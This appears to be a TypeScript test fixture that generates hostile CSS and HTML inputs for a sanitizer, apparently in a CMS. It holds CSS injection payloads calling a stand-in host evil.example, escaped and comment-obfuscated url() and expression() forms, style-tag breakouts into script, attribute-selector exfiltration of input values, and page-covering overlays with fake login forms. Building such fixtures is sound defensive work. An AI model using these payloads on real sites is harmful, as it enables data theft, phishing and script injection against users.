/* Styles that run, fetch, read or cover something, and the ways to write them; frames and popups that cover the page. */

const EVIL = '//evil.example/x';
const FETCHES = (
  'background background-image border-image border-image-source list-style list-style-image cursor content mask ' +
  'mask-image filter clip-path ' +
  'shape-outside offset-path -webkit-mask-image -webkit-box-reflect fill stroke marker-start color-profile src --x'
).split(' ');
const ADDRESSES = [
  `url(${EVIL})`,
  `url("${EVIL}")`,
  `u\\72l(${EVIL})`,
  `\\75 rl(${EVIL})`,
  `URL(${EVIL})`,
  `image-set("${EVIL}" 1x)`,
  `-webkit-image-set(url(${EVIL}) 1x)`,
  `image("${EVIL}")`,
  `cross-fade(url(${EVIL}),red)`,
  `src("${EVIL}")`,
  `attr(title url)`,
  `ur/**/l(${EVIL})`,
  `url(javascript:hurt(1))`,
  `url(data:text/html,<script>hurt(1)</script>)`,
  `element(#mainContent)`,
];
const fetching = FETCHES.flatMap((property, i) =>
  ADDRESSES.filter((_, j) => (i + j) % 3 === 0).flatMap((address, j) => [
    `<p style='${property}:${address}' title="https:${EVIL}">x</p>`,
    j % 2
      ? `<style>p{${property}:${address}}</style>`
      : `<svg><rect ${property}='${address}' style='${property}: ${address}' width=9 height=9 /></svg>`,
  ]),
);

const RUNS = [
  'width:expression(hurt(1))',
  'width:ex/**/pression(hurt(1))',
  'width:\\65xpression(hurt(1))',
  'width:e\u0078pression(hurt(1))',
  '-moz-binding:url(//evil.example/x.xml#x)',
  '-moz-\\62inding:url(//evil.example/x.xml#x)',
  'behavior:url(#default#time2)',
  'behaviour:url(//evil.example/x.htc)',
  '-o-link:"javascript:hurt(1)";-o-link-source:current',
  'animation:x 1s;animation-name:x',
  'transition:all 1ms',
  '}</style><script>hurt(1)</script>',
  '*/hurt(1)/*',
  'color:red;}*{display:none}p{',
  '@charset "utf-7";',
  '@import url(javascript:hurt(1))',
  '@font-face{font-family:x;src:url(//evil.example/x)}',
  '@namespace url(javascript:hurt(1))',
  '@property --x{syntax:"<url>";initial-value:url(//evil.example/x);inherits:true}',
  '@container style(--x:url(//evil.example/x)){p{color:red}}',
  'input[value^="a"]{background:url(//evil.example/a)}',
  ':visited{background:url(//evil.example/v)}',
  '\u0000color:red',
  'color:\uff52\uff45\uff44',
];
const running = RUNS.flatMap((run) => [
  `<p style="${run.replaceAll('"', '&quot;')}">x</p>`,
  `<style>${run}</style>`,
  `<svg><style>${run}</style></svg>`,
  `<link rel=stylesheet href='data:text/css,${encodeURIComponent(run)}'>`,
  `<math><mtext style="${run.replaceAll('"', "'")}">x</mtext></math>`,
]);

const COVERS = [
  'position:fixed;inset:0;z-index:2147483647',
  'position:absolute;top:-900px;left:-900px;width:5000px;height:5000px',
  'position:sticky;top:0;height:100vh',
  'margin:-2000px -2000px 0;width:9000px;height:4000px;background-color:white',
  'margin-top:-900px;height:1200px;float:left;width:200vw',
  'transform:translateY(-900px) scale(9)',
  'translate:0 -900px;scale:9',
  'height:100000px;margin-top:-50000px;background-color:red',
  'font-size:9000px;line-height:0;margin-top:-500px',
  'text-indent:-9000px;padding-left:9000px',
  'border:4000px solid white;margin:-4000px',
  'width:100vw;height:100dvh;margin-left:-50vw;margin-top:-50vh',
  'filter:opacity(0);outline:9999px solid red',
  'box-shadow:0 0 0 9999px red;opacity:0',
  'aspect-ratio:1/99;width:5000px;margin-top:-3000px',
  'grid-row:1/99;grid-column:1/99;gap:9000px',
  'anchor-name:--x;position-anchor:--x;inset-area:top',
  'view-transition-name:root;contain:layout',
];
/** Classes that the product's own sheets put somewhere else, and elements that browsers do. */
const POSITIONED = (
  'cms-fader cms-notices cms-notice cms-dialog cms-window cms-dock cms-drawing skip-link site-header menu--overlay ui-window__box ' +
  'consent inspector user-area__list visually-hidden'
).split(' ');
const covering = COVERS.flatMap((cover, i) => [
  `<a href="https://evil.example/" style="${cover}">Log in</a>`,
  `<div class="${POSITIONED[i % POSITIONED.length]!}" style="${cover}">` +
    `<a class="cms-notice" href="https://evil.example/" style="${cover}">Log in</a></div>`,
  `<dialog open style="${cover}"><form action="https://evil.example/"><input type=password></form></dialog>`,
  `<table style="${cover}"><tr><td style="${cover}">x</td></tr></table>`,
]);
const positioned = POSITIONED.flatMap((name) =>
  COVERS.filter((_, i) => i % 4 === 3).flatMap((cover) => [
    `<div class="cms-notices ${name}"><a class="${name} cms-notice" href="https://evil.example/" style="${cover}">x</a></div>`,
    `<section popover="auto" id="${name}" class="${name}" style="${cover}">x</section><button popovertarget="${name}">x</button>`,
  ]),
);

export const styles: readonly string[] = [...fetching, ...running, ...covering, ...positioned];
